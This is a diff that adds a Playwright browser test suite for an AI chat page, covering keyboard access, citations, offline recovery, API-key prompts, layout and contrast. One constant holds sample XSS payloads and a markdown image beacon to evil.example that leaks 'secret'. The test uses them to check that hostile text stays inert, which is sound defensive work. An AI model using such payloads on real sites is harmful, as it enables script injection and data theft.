@@ -1,0 +1,325 @@
+"""The chat page in a real browser: by keyboard, on a phone, in the dark, without a network."""
+
+import re
+import shutil
+from collections.abc import AsyncGenerator, Callable, Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+
+from shipmate.messages import Cited, StreamEvent, Token
+from tests.integration.fake_assistant import CITATION, QUOTE, WAIT_TEXT, FakeAssistant
+from tests.integration.house import House, eventually, open_house
+
+pytestmark = pytest.mark.real
+
+CHROMIUM = shutil.which("chromium")
+QUESTION = "What does a berth cost?"
+KEY = "desk-key-0123456789abc"
+HOSTILE = (
+    '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) '
+    "![beacon](https://evil.example/?q=secret) [1] [2] [99]\n\n- **bold** `code`\n\n```\n<b>block</b>\n```\n"
+    + "Donaudampfschifffahrt"
+    * 12
+)
+
+
+class Page:
+    """One tab, and what went wrong in it."""
+
+    def __init__(self, page: Any, house: House) -> None:
+        self.page = page
+        self.house = house
+        self.complaints: list[str] = []
+        self.requests: list[str] = []
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        page.on("console", self._heed)
+        page.on("request", lambda request: self.requests.append(request.url))
+        page.goto(f"http://127.0.0.1:{house.port}/")
+
+    def _heed(self, message: Any) -> None:
+        if message.type == "error":
+            self.complaints.append(message.text)
+
+    def ask(self, text: str) -> None:
+        self.page.fill("#question", text)
+        self.page.press("#question", "Enter")
+
+    def ask_to_the_end(self, text: str) -> None:
+        answers = self.page.locator(".answer .tail:not([hidden])")
+        before = answers.count()
+        self.ask(text)
+        answers.nth(before).wait_for()
+
+    def text(self, selector: str) -> str:
+        return str(self.page.locator(selector).last.inner_text())
+
+    def focused(self) -> str:
+        return str(self.page.evaluate("document.activeElement.id || document.activeElement.className"))
+
+
+class HostileAssistant(FakeAssistant):
+    """Its documents try to become part of the page."""
+
+    async def _play(self, text: str) -> AsyncGenerator[StreamEvent, None]:  # noqa: ARG002 - whatever is asked
+        yield Cited(number=1, citation=CITATION)
+        for start in range(0, len(HOSTILE), 7):
+            yield Token(text=HOSTILE[start : start + 7])
+
+
+@pytest.fixture(scope="module")
+def browser(required: Callable[[bool, str], None]) -> Iterator[Any]:
+    required(CHROMIUM is not None, "chromium")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield launched
+        launched.close()
+
+
+@contextmanager
+def opened(
+    browser: Any, assistant: FakeAssistant | None = None, *, server: dict[str, Any] | None = None, **context: Any
+) -> Iterator[Page]:
+    with open_house(assistant, **(server or {})) as house:
+        tab = browser.new_context(reduced_motion="reduce", **context)
+        try:
+            page = Page(tab.new_page(), house)
+            yield page
+            own = f"http://127.0.0.1:{house.port}/"
+            assert [url for url in page.requests if not url.startswith(own)] == []
+        finally:
+            tab.close()
+
+
+@pytest.fixture
+def page(browser: Any) -> Iterator[Page]:
+    with opened(browser) as page:
+        yield page
+        assert page.complaints == []
+
+
+def test_an_answer_streams_with_its_citation_and_the_passage_opens_by_keyboard_alone(page: Page) -> None:
+    keyboard = page.page.keyboard
+    assert page.focused() == "question"
+    keyboard.type(QUESTION)
+    keyboard.press("Enter")
+    page.page.locator(".answer .tail:not([hidden])").wait_for()
+    assert page.text(".answer .text strong") == "A berth costs 24 euros a night"
+    for _ in range(10):
+        keyboard.press("Shift+Tab")
+        if page.focused() == "marker":
+            break
+    assert page.focused() == "marker"
+    keyboard.press("Enter")
+    page.page.locator("#panel mark").wait_for()
+    assert page.text("#panel mark") == QUOTE
+    assert page.text("#panel-path") == "Visitors › Berths"
+    assert page.text("#panel-source") == CITATION.source
+    assert page.focused() == "panel-close"
+    keyboard.press("Escape")
+    page.page.locator("#panel").wait_for(state="hidden")
+    assert page.focused() == "marker"
+
+
+def test_shift_enter_begins_a_new_line(page: Page) -> None:
+    keyboard = page.page.keyboard
+    keyboard.type("one")
+    keyboard.press("Shift+Enter")
+    keyboard.type("two")
+    assert page.page.input_value("#question") == "one\ntwo"
+    assert page.house.assistant.asks == []
+
+
+def test_people_are_told_that_they_talk_to_an_ai_before_and_after_asking(page: Page) -> None:
+    assert page.page.get_by_text(page.house.assistant.disclosure).is_visible()
+    page.ask_to_the_end(QUESTION)
+    assert page.page.get_by_text(page.house.assistant.disclosure).is_visible()
+
+
+def test_a_suggestion_asks(page: Page) -> None:
+    page.page.click(".suggestion >> nth=0")
+    page.page.locator(".answer .tail:not([hidden])").wait_for()
+    assert page.text(".bubble") == page.house.assistant.suggestions[0]
+
+
+def test_a_screen_reader_hears_the_whole_answer_once(page: Page) -> None:
+    page.ask_to_the_end(QUESTION)
+    heard = page.text("#status")
+    assert "A berth costs 24 euros a night" in heard
+    assert "[1]" not in heard
+
+
+def test_the_answer_can_be_stopped_and_stays_as_far_as_it_came(page: Page) -> None:
+    page.house.assistant.step_s = 0.1
+    page.ask("slow")
+    page.page.get_by_text("word1").wait_for()
+    page.page.click("#stop")
+    page.page.get_by_text("Stopped", exact=True).wait_for()
+    assert "word0" in page.text(".answer .text")
+    page.ask_to_the_end(QUESTION)
+    assert len(page.house.assistant.closed) == 1
+
+
+def test_the_wait_card_counts_down_and_asks_again(page: Page) -> None:
+    page.ask("wait for it")
+    card = page.page.locator(".trouble")
+    card.wait_for()
+    assert WAIT_TEXT in page.text(".trouble")
+    again = card.locator(".again")
+    assert again.is_disabled()
+    assert re.fullmatch(r"Ask again in \d s", again.inner_text())
+    page.page.locator(".again:enabled").wait_for()
+    again.click()
+    page.page.locator(".again:disabled").wait_for()
+    assert len(page.house.assistant.asks) == 2
+    assert page.page.locator(".question").count() == 1
+
+
+def test_a_refused_question_says_why_and_can_be_asked_again(browser: Any) -> None:
+    with opened(browser) as page:
+        page.ask("busy day")
+        page.page.locator(".trouble").wait_for()
+        assert "This conversation is busy. Wait for the answer." in page.text(".trouble")
+        page.page.click(".again")
+        assert eventually(lambda: len(page.house.assistant.asks) == 2)
+        page.page.locator(".trouble").wait_for()
+        assert page.page.locator(".trouble").count() == 1
+
+
+def test_an_answer_that_breaks_keeps_what_came(page: Page) -> None:
+    page.ask("break")
+    page.page.locator(".trouble").wait_for()
+    assert "The disk went away." in page.text(".trouble")
+    assert page.text(".answer .text") == "The answer is"
+    assert page.text(".answer .kind") == "Broken off"
+
+
+def test_a_conversation_goes_on_and_survives_a_reload(page: Page) -> None:
+    page.ask_to_the_end(QUESTION)
+    page.ask_to_the_end("And water?")
+    first, second = page.house.assistant.asks
+    assert first.conversation_id == ""
+    assert second.conversation_id
+    assert first.caller == second.caller
+    assert first.caller.startswith("device-")
+    page.page.reload()
+    assert page.page.locator(".question").count() == 2
+    page.ask_to_the_end("And power?")
+    assert page.house.assistant.asks[-1].conversation_id == second.conversation_id
+
+
+def test_a_new_conversation_begins_empty(page: Page) -> None:
+    page.ask_to_the_end(QUESTION)
+    page.page.click("#new")
+    assert page.page.locator("#greeting").is_visible()
+    assert page.page.locator(".question").count() == 0
+    page.ask_to_the_end(QUESTION)
+    assert page.house.assistant.asks[-1].conversation_id == ""
+
+
+def test_an_answer_is_copied_with_its_sources(browser: Any) -> None:
+    with opened(browser, permissions=["clipboard-read", "clipboard-write"]) as page:
+        page.ask_to_the_end(QUESTION)
+        page.page.click(".copy")
+        page.page.get_by_text("Copied").first.wait_for()
+        copied = page.page.evaluate("navigator.clipboard.readText()")
+        assert copied.endswith(f"[1] {CITATION.title} ({CITATION.source})")
+
+
+def test_hostile_text_stays_text(browser: Any) -> None:
+    with opened(browser, HostileAssistant(), viewport={"width": 360, "height": 640}) as page:
+        page.ask_to_the_end(QUESTION)
+        answer = page.page.locator(".answer .text")
+        assert "<img src=x" in answer.inner_text()
+        assert "<script>" in answer.inner_text()
+        assert answer.locator("img, script, a, iframe").count() == 0
+        assert answer.locator(".marker").count() == 1
+        assert "[2]" in answer.inner_text()
+        assert answer.locator("pre code").inner_text() == "<b>block</b>"
+        assert page.page.evaluate("window.hacked") is None
+        assert page.page.evaluate("document.querySelector('main').scrollWidth") <= 360
+        assert page.complaints == []
+
+
+def test_without_a_network_it_says_so_and_comes_back(browser: Any) -> None:
+    with opened(browser) as page:
+        page.ask_to_the_end(QUESTION)
+        page.page.context.set_offline(True)
+        page.page.get_by_text("You are offline").wait_for()
+        page.ask("Are you there?")
+        page.page.get_by_text("The assistant cannot be reached").wait_for()
+        page.page.context.set_offline(False)
+        page.page.get_by_text("Connected again").wait_for(timeout=10_000)
+        page.page.click(".again")
+        page.page.locator(".answer .tail:not([hidden])").nth(1).wait_for()
+        assert page.text(".bubble") == "Are you there?"
+
+
+def test_with_keys_the_page_asks_for_one_once(browser: Any) -> None:
+    with opened(browser, server={"api_keys": {"desk": KEY}}) as page:
+        page.ask(QUESTION)
+        page.page.locator("#key").wait_for()
+        assert page.focused() == "key-field"
+        page.page.keyboard.type("a-wrong-key")
+        page.page.keyboard.press("Enter")
+        page.page.locator(".trouble").wait_for()
+        assert "API key" in page.text(".trouble")
+        page.page.click(".again")
+        page.page.locator("#key").wait_for()
+        page.page.keyboard.type(KEY)
+        page.page.keyboard.press("Enter")
+        page.page.locator(".answer .tail:not([hidden])").wait_for()
+        page.page.click(".marker")
+        page.page.locator("#panel mark").wait_for()
+        page.ask_to_the_end("And water?")
+        assert {ask.caller for ask in page.house.assistant.asks} == {"desk"}
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [320, 360, 1280])
+def test_every_state_fits_its_screen_and_can_be_read(browser: Any, scheme: str, width: int) -> None:
+    with opened(browser, viewport={"width": width, "height": 720}, color_scheme=scheme) as page:
+        assert_fits_and_reads(page, ".empty h1, .empty p, .suggestion, .disclosure, .name, .what, .release")
+        page.ask_to_the_end(QUESTION)
+        assert_fits_and_reads(page, ".bubble, .answer .text, .marker, .source .title, .source .quote, .copy, time")
+        page.page.click(".marker")
+        page.page.locator("#panel mark").wait_for()
+        assert_fits_and_reads(page, "#panel h2, #panel mark, #panel .passage, #panel-source, #panel-number")
+        page.page.keyboard.press("Escape")
+        page.ask("break")
+        page.page.locator(".trouble").wait_for()
+        assert_fits_and_reads(page, ".card-title, .card-text, .again, .kind:not([hidden])")
+
+
+CONTRAST = """
+(selector) => {
+  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
+  const paint = (colors) => {
+    canvas.clearRect(0, 0, 1, 1);
+    for (const color of colors) { canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1); }
+    return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
+  };
+  const light = (rgb) => {
+    const [r, g, b] = rgb.map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4));
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  return [...document.querySelectorAll(selector)].filter((e) => e.checkVisibility()).map((e) => {
+    const behind = [];
+    for (let at = e; at; at = at.parentElement) behind.unshift(getComputedStyle(at).backgroundColor);
+    const [a, b] = [light(paint(behind)), light(paint([...behind, getComputedStyle(e).color]))];
+    return [e.className || e.id || e.tagName, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)];
+  });
+}
+"""
+
+
+def assert_fits_and_reads(page: Page, selector: str) -> None:
+    """Nothing sticks out sideways, and text has the contrast of WCAG AA."""
+    overflow = "[document.documentElement, document.querySelector('main')].some(e => e.scrollWidth > e.clientWidth)"
+    assert not page.page.evaluate(overflow)
+    contrasts = page.page.evaluate(CONTRAST, selector)
+    assert contrasts
+    assert [found for found in contrasts if found[1] < 4.5] == []
